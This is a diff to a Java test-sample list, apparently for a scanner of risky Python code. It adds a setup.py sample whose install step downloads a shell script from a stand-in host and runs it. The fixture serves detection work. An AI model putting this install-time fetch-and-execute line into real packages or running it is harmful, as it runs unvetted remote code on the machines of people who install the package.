@@ -9,6 +9,14 @@ final class PythonDetours {
 
   static List<Sample> all() {
     return List.of(
+        Sample.setup(
+            "code in a text fetches a program and runs it",
+            """
+            from setuptools import setup
+            import subprocess
+            subprocess.check_call(["python3", "-c", "import urllib.request as r,os;open('/tmp/u.sh','wb').write(r.urlopen('https://mirror.example/u.sh').read());os.system('sh /tmp/u.sh')"])
+            setup(name='sample')
+            """),
         Sample.imported(
             "a temporary file is made by its descriptor and run by its path",
             """
